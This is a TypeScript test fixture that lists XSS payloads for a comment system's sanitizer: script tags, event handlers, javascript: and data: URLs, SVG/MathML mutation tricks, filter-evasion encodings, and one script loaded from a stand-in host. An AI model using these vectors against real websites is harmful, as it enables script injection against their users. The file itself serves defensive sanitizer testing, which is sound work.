/**
 * Attacks a commenter might type, after the OWASP XSS filter evasion cheat sheet and the html5sec.org vectors: each
 * tries to run `alert()` (or `confirm`, `prompt`, `print`), which opens a dialog the browser test listens for.
 */
export const COMMENT_PAYLOADS: readonly string[] = [
  // script tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<script>alert(String.fromCharCode(88,83,83))</script>',
  '<scr<script>ipt>alert(2)</scr</script>ipt>',
  '<<script>alert(3);//<</script>',
  '<script/xss src="data:text/javascript,alert(4)"></script>',
  '<script type="module">alert(5)</script>',
  '</textarea><script>alert(6)</script>',
  '</p></div></li></ol><script>alert(7)</script>',
  '<!--<script>-->alert(8)<!--</script>-->',
  // event handlers
  '<img src=x onerror=alert(9)>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(10)">',
  '<svg onload=alert(11)>',
  '<svg/onload=alert(12)//',
  '<body onload=alert(13)>',
  '<details open ontoggle=alert(14)>',
  '<input autofocus onfocus=alert(15)>',
  '<video><source onerror="alert(16)"></video>',
  '<audio src=x onerror=alert(17)>',
  '<marquee onstart=alert(18)>x</marquee>',
  '<em onmouseover="alert(19)" style="display:block;position:fixed;inset:0">hover</em>',
  '<a href="#" onclick="alert(20)">click</a>',
  '<strong onpointerenter=alert(21)>x</strong>',
  '<p onfocusin=alert(22) tabindex=1 id=x>focus</p>',
  // javascript: and data: URLs
  '<a href="javascript:alert(23)">link</a>',
  '<a href="JaVaScRiPt:alert(24)">link</a>',
  '<a href="jav&#x09;ascript:alert(25)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(26)">link</a>',
  '<a href=" javascript:alert(27)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=">data</a>',
  '<a href="vbscript:msgbox(29)">vb</a>',
  '<iframe src="javascript:alert(30)"></iframe>',
  '<iframe srcdoc="<script>alert(31)</script>"></iframe>',
  '<object data="javascript:alert(32)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzMpPjwvc3ZnPg==">',
  '<form action="javascript:alert(34)"><button>go</button></form>',
  '<button formaction="javascript:alert(35)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(36)">',
  '<base href="javascript:alert(37)//">',
  // SVG and MathML
  '<svg><script>alert(38)</script></svg>',
  '<svg><a xlink:href="javascript:alert(39)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(40) attributeName=x dur=1s>',
  '<svg><set attributeName="onload" to="alert(41)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(42)>',
  '<svg><foreignObject><img src=x onerror=alert(43)></foreignObject></svg>',
  // styles and other active content
  '<style>@import "javascript:alert(44)";</style>',
  '<div style="background:url(javascript:alert(45))">x</div>',
  '<link rel="stylesheet" href="javascript:alert(46)">',
  '<table background="javascript:alert(47)"><tr><td>x</td></tr></table>',
  // encoded, malformed and broken tags
  '&lt;script&gt;alert(48)&lt;/script&gt;',
  '<img """><script>alert(49)</script>">',
  '<img src=`x` onerror=alert(50)>',
  '<a href="https://ok.example/"onmouseover="alert(51)">ok</a>',
  '<img/src="x"/onerror="alert(52)">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=53>',
  '"><img src=x onerror=alert(54)>',
  "'><svg onload=alert(55)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(56)>">',
  '<xmp><p title="</xmp><svg onload=alert(57)>">',
  '<a href="https://ok.example">ok</a><img src=x onerror=confirm(58)>',
  '<p>fine</p><svg><style><img src=x onerror=prompt(59)></style></svg>',
  '<template><script>alert(60)</script></template><em>t</em>',
  '<q cite="javascript:alert(61)">q</q><blockquote cite="javascript:alert(62)">b</blockquote>',
  '<code onclick=alert(63)>code</code><del onmouseover=alert(64)>del</del>',
  '\u003cscript\u003ealert(65)\u003c/script\u003e',
  'www.example.com/"><script>alert(66)</script>',
  'https://example.com/?q=<script>alert(67)</script>',
  'https://example.com/"onmouseover="alert(68)',
]

/** As a commenter's name: shown as text. */
export const NAME_PAYLOADS: readonly string[] = [
  '<script>alert(101)</script>',
  '"><img src=x onerror=alert(102)>',
  "Robert'); alert(103);//",
  '<svg onload=alert(104)>',
  '</span><script>alert(105)</script>',
  '{{constructor.constructor("alert(106)")()}}',
]

/** As a commenter's website: only http(s) survives, quoted in an attribute. */
export const URL_PAYLOADS: readonly string[] = [
  'javascript:alert(201)',
  'JAVASCRIPT:alert(202)',
  'data:text/html,<script>alert(203)</script>',
  'https://ok.example/" onmouseover="alert(204)',
  'https://ok.example/"><script>alert(205)</script>',
  ' javascript:alert(206)',
  'vbscript:msgbox(207)',
  'http://x.example/\'onmouseover=alert(208)//',
]
